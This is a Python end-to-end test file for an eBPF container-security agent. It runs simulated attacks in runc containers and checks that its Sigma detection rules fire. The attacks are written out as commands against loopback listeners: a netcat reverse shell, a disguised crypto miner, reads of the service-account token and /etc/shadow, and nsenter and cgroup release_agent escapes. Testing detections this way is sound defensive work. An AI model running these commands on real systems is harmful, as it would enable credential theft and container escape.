"""Attack simulations in real runc containers (kubelet-shaped cgroups), captured by the real
eBPF sensors through the real agent, then judged by the shipped Sigma rules (pySigma's SQLite
backend over the captured events). Each attack runs in its own container (its own pod UID), so
correlations group per attack; each container must fire exactly its intended rules, and no
rule may fire on anything else (the host's own activity included)."""

from __future__ import annotations

import json
import subprocess
import time
from collections.abc import Iterator
from typing import Any

import pytest
from agent_harness import start_agent
from conftest import require, require_ebpf, require_runc
from containers import RUNC, Container, run_container
from loopback import listen, stop

from podtrail.rules.evaluate import evaluate

REVSHELL_PORT, POOL_PORT, API_PORT, WEB_PORT = 9001, 3333, 6443, 8089
TOKEN = "var/run/secrets/kubernetes.io/serviceaccount/token"

EXPECTED: dict[str, set[str]] = {
    # kubectl exec -it ... sh, then a tool from that shell calls out
    "shell": {"podtrail_terminal_shell_in_container", "podtrail_network_utility", "podtrail_corr_shell_then_connect"},
    # nc -e /bin/sh to a listener that sends commands
    "revshell": {"podtrail_netcat_reverse_shell", "podtrail_shell_stdin_socket"},
    # a copied busybox named like a miner, run with a stratum URL, connecting to a pool port
    "miner": {"podtrail_drift_binary_executed", "podtrail_exec_from_tmp_or_shm", "podtrail_crypto_miner_name",
              "podtrail_stratum_url", "podtrail_network_utility", "podtrail_mining_pool_port",
              "podtrail_corr_drift_then_outbound", "podtrail_corr_miner_then_pool"},
    # service-account token and /etc/shadow read, then the API server port contacted with nc
    "secrets": {"podtrail_service_account_token_by_tool", "podtrail_shadow_read", "podtrail_k8s_api_from_shell_tool",
                "podtrail_network_utility", "podtrail_corr_credential_harvest"},
    # discovery burst and escape attempts
    "escape": {"podtrail_namespace_escape_tool", "podtrail_mount_in_container", "podtrail_cgroup_release_agent_escape",
               "podtrail_corr_recon_burst"},
}


def _attack_shell(c: Container) -> None:
    require(subprocess.run(["which", "script"], capture_output=True).returncode == 0, "script(1) from bsdutils")
    # A real pseudo-terminal, as `kubectl exec -it` gives: script(1) owns the pty runc hands on.
    subprocess.run(["script", "-qec", f"{RUNC} exec -t {c.id} sh", "/dev/null"], capture_output=True, text=True, timeout=30,
                   input=f"sleep 1; nc 127.0.0.1 {WEB_PORT} </dev/null; sleep 1; exit\n")


def _attack_revshell(c: Container) -> None:
    c.exec("sh", "-c", f"nc 127.0.0.1 {REVSHELL_PORT} -e /bin/sh", check=False)


def _attack_miner(c: Container) -> None:
    c.exec("sh", "-c", "cp /bin/busybox /tmp/busybox-xmrig && chmod 755 /tmp/busybox-xmrig")
    c.exec("/tmp/busybox-xmrig", "sh", "-c", f"nc 127.0.0.1 {POOL_PORT} </dev/null", "xmrig", "--url",
           f"stratum+tcp://127.0.0.1:{POOL_PORT}", "--donate-level", "1", check=False)


def _attack_secrets(c: Container) -> None:
    c.rootfs.joinpath(TOKEN).write_text("eyJhbGciOiJSUzI1NiJ9.fake")
    c.exec("cat", "/" + TOKEN, check=False)
    c.exec("cat", "/etc/shadow", check=False)
    c.exec("nc", "127.0.0.1", str(API_PORT), check=False)


def _attack_escape(c: Container) -> None:
    for argv in (["whoami"], ["id"], ["uname", "-a"], ["hostname"]):
        c.exec(*argv, check=False)
    c.exec("nsenter", "-t", "1", "-m", "--", "true", check=False)
    c.exec("mount", "-t", "proc", "proc", "/mnt", check=False)
    c.exec("sh", "-c", "mkdir -p /tmp/cgrp; echo /x > /tmp/cgrp/release_agent", check=False)


ATTACKS = {"shell": _attack_shell, "revshell": _attack_revshell, "miner": _attack_miner,
           "secrets": _attack_secrets, "escape": _attack_escape}


@pytest.fixture(scope="module")
def captured() -> Iterator[dict[str, Any]]:
    require_ebpf()
    require_runc()
    listeners = [listen(REVSHELL_PORT, b"sleep 2\nexit\n", hold=3.0), listen(POOL_PORT, hold=1.0), listen(API_PORT, hold=1.0),
                 listen(WEB_PORT, hold=1.0)]
    agent, sink = start_agent()
    ctrs: dict[str, Container] = {}
    try:
        for name, attack in ATTACKS.items():
            ctrs[name] = c = run_container("containerd-systemd" if name != "escape" else "kubelet-cgroupfs-burstable")
            attack(c)
        # the host does some of the same things: no rule may fire on it
        subprocess.run(["cat", "/etc/shadow"], capture_output=True)
        subprocess.run(["sh", "-c", "uname -a; id; hostname"], capture_output=True)
        last = ctrs["escape"]
        last.exec("sh", "-c", "echo e2e-done-marker", check=False)
        sink.wait_for(lambda e: "e2e-done-marker" in (e.get("cmdline") or "") and e.get("action") == "exec", timeout=20)
        time.sleep(1.0)
        events = list(sink.events)
    finally:
        agent.stop()
        for c in ctrs.values():
            c.destroy()
        for s in listeners:
            stop(s)
    yield {"events": events, "containers": {n: c.id for n, c in ctrs.items()}}


def _fired_by_container(events: list[dict[str, Any]]) -> dict[str, set[str]]:
    by_id = {e["event_id"]: e for e in events}
    fired: dict[str, set[str]] = {}
    for name, hit in evaluate(events).items():
        for row in hit.rows:
            if "event_ids" in row:  # a correlation group: the containers of its events
                ids = [i.split(":", 1)[1] for i in json.loads(row["event_ids"])]
                cids = {by_id[i].get("container_id") or "host" for i in ids}
            else:
                cids = {row.get("container_id") or "host"}
            for cid in cids:
                fired.setdefault(cid, set()).add(name)
    return fired


def test_each_attack_fires_its_rules_and_nothing_else_fires(captured: dict[str, Any]) -> None:
    fired = _fired_by_container(captured["events"])
    ours = captured["containers"]
    report = {n: sorted(fired.get(cid, set())) for n, cid in ours.items()}
    for name, cid in ours.items():
        got = fired.get(cid, set())
        assert got == EXPECTED[name], f"{name}: missing {sorted(EXPECTED[name] - got)}, unexpected {sorted(got - EXPECTED[name])}; all: {report}"
    strays = {cid: sorted(r) for cid, r in fired.items() if cid not in ours.values()}
    assert strays == {}, f"rules fired outside the attack containers: {strays}"


def test_attack_events_carry_the_context_rules_group_on(captured: dict[str, Any]) -> None:
    ours = set(captured["containers"].values())
    evs = [e for e in captured["events"] if e.get("container_id") in ours and e.get("action") in ("exec", "connect", "read")]
    assert evs
    assert all(e.get("pod_uid") for e in evs), "pod UID comes from the kubelet-shaped cgroup path"
    tty_shells = [e for e in evs if e.get("action") == "exec" and e.get("stdin") == "tty"]
    assert tty_shells, "the interactive shell's stdin was seen as a terminal"
